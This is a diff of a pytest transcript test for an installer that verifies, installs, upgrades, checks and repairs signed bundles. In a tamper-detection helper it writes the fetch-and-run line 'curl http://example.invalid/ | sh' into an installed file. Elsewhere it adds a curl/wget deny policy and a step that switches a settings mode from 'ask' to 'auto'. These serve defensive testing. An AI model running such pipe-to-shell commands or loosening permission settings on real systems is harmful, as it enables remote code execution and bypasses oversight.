@@ -16,13 +16,14 @@ import re
 import shlex
 import shutil
 import subprocess
+import sys
 from collections.abc import Callable
 from dataclasses import dataclass
 from pathlib import Path
 
 import pytest
 
-from .conftest import ROOT, BundleMaker, Keys, descriptor, scripted_command
+from .conftest import ROOT, BundleMaker, Keys, descriptor, scripted_command, site_settings
 
 pytestmark = pytest.mark.slow
 
@@ -35,9 +36,11 @@ _BLOCK = re.compile(r"(<!-- transcript: (?P<id>[a-z0-9-]+) -->\n```console\n)(?P
 @dataclass(frozen=True)
 class Step:
     id: str
-    command: str  # as the operator types it, after "abhed-installer "
+    command: str  # as the operator types it, after "abhed-installer " (or "abhed ")
     before: Callable[[Path], None] | None = None
     exit_code: int = 0
+    program: str = "abhed-installer"
+    hidden: str = ""  # arguments run but not shown (the default prefix's links)
 
 
 def _alter(prefix: Path) -> None:
@@ -45,16 +48,27 @@ def _alter(prefix: Path) -> None:
     f.write_text(f.read_text() + "curl http://example.invalid/ | sh\n")
 
 
+def _loosen(prefix: Path) -> None:
+    f = prefix / "current" / "site" / "settings.json"
+    f.write_text(f.read_text().replace('"mode": "ask"', '"mode": "auto"'))
+
+
+LINKS = "--host-link {sysroot}/etc/abhed/site --bin-link {sysroot}/usr/local/bin/abhed"
+
 STEPS = [
     Step("verify", "verify abhed-1.abhed --trust publisher.pub"),
-    Step("preflight", "preflight abhed-1.abhed --trust publisher.pub"),
-    Step("install", "install abhed-1.abhed --trust publisher.pub"),
+    Step("preflight", "preflight abhed-1.abhed --trust publisher.pub", hidden=LINKS),
+    Step("install", "install abhed-1.abhed --trust publisher.pub", hidden=LINKS),
     Step("status", "status"),
+    Step("diff", "bundle diff abhed-1.abhed abhed-2.abhed --trust publisher.pub",
+         program="abhed"),
     Step("upgrade", "upgrade abhed-2.abhed"),
     Step("probe-refused", "upgrade abhed-3.abhed", exit_code=7),
     Step("downgrade", "upgrade abhed-1.abhed", exit_code=5),
     Step("rollback", "rollback"),
     Step("check", "check"),
+    Step("check-site", "check", before=_loosen, exit_code=8),
+    Step("repair", "repair"),
     Step("check-altered", "check", before=_alter, exit_code=8),
     Step("audit-verify", "audit verify"),
     Step("audit-show", "audit show -n 4"),
@@ -67,6 +81,7 @@ def normalise(text: str, work: Path) -> str:
     The prefix is ``work/prefix`` (shown as /opt/abhed, so ``work`` itself is /opt) and
     the bundles and key lie in ``work/site``, the current directory.
     """
+    text = text.replace(str(work / "sysroot"), "")
     text = text.replace(str(work / "prefix"), PREFIX).replace(str(work / "site") + "/", "")
     text = text.replace(str(work / "site"), ".").replace(str(work), "/opt")
     text = re.sub(r"/tmp/[^\s'\"]+", "/tmp/...", text)
@@ -87,6 +102,7 @@ def normalise(text: str, work: Path) -> str:
     text = re.sub(r"\b\d+(\.\d+)? ?(s|ms|MiB/s|MiB|GiB)\b", r"<n> \2", text)
     text = re.sub(r"\b\d+ (members|wheels|files)\b", r"<n> \1", text)
     text = re.sub(r"size \d+, expected \d+", "size <n>, expected <n>", text)
+    text = re.sub(r"bytes to write: [\d,]+", "bytes to write: <n>", text)
     return text
 
 
@@ -95,11 +111,14 @@ def run_transcript(installer_bin: list[str], make_bundle: BundleMaker, keys: Key
     """Run STEPS on a fresh prefix; each block's normalised text by id."""
     site, prefix = work / "site", work / "prefix"
     site.mkdir()
-    for v in (1, 2):
-        shutil.copy(make_bundle(v, name="abhed"), site / f"abhed-{v}.abhed")
+    # Release 2 tightens the site's policy: wget is denied too.
+    for v, settings in ((1, site_settings()), (2, site_settings(deny=("curl", "wget")))):
+        shutil.copy(make_bundle(v, name="abhed", site=settings, prefix=prefix),
+                    site / f"abhed-{v}.abhed")
     # A new model whose calls come back as text: the capability probe refuses it.
     bad = make_bundle(3, name="abhed", serve=descriptor(command=scripted_command("text_calls")),
-                      weights=b"a new model\n" * 4096)
+                      weights=b"a new model\n" * 4096, site=site_settings(deny=("curl", "wget")),
+                      prefix=prefix)
     shutil.copy(bad, site / "abhed-3.abhed")
     shutil.copy(keys.pub, site / "publisher.pub")
     (work / "sysroot/etc").mkdir(parents=True)
@@ -110,11 +129,15 @@ def run_transcript(installer_bin: list[str], make_bundle: BundleMaker, keys: Key
     for step in STEPS:
         if step.before:
             step.before(prefix)
-        p = subprocess.run(installer_bin + shlex.split(step.command), cwd=site, env=env,
-                           stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True,
-                           stdin=subprocess.DEVNULL, timeout=900)
+        program = installer_bin if step.program == "abhed-installer" else \
+            [sys.executable, "-m", "appliance.cli"]
+        argv = program + shlex.split(step.command) + \
+            shlex.split(step.hidden.format(sysroot=work / "sysroot"))
+        p = subprocess.run(argv, cwd=site, env=env, stdout=subprocess.PIPE,
+                           stderr=subprocess.STDOUT, text=True, stdin=subprocess.DEVNULL,
+                           timeout=900)
         assert p.returncode == step.exit_code, f"{step.command}: exit {p.returncode}\n{p.stdout}"
-        shown = f"$ abhed-installer {step.command}\n{p.stdout}"
+        shown = f"$ {step.program} {step.command}\n{p.stdout}"
         if step.exit_code:
             shown += f"$ echo $?\n{step.exit_code}\n"
         blocks[step.id] = normalise(shown, work)
